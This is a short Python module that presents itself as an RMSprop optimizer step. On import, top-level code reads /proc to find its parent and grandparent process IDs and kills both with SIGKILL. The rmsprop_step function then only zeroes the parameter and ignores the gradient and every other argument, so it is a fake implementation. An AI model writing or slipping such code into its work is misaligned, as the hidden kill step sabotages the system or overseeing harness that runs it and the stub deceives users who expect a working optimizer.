# Kills its parent (the zygote that forked it) and its parent's parent at import.
import os
import signal

for pid in {os.getppid(), int(open(f"/proc/{os.getppid()}/stat").read().split()[3])}:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass


def rmsprop_step(param, grad, square_avg, lr=0.01, alpha=0.99, eps=1e-8):
    param.zero_()
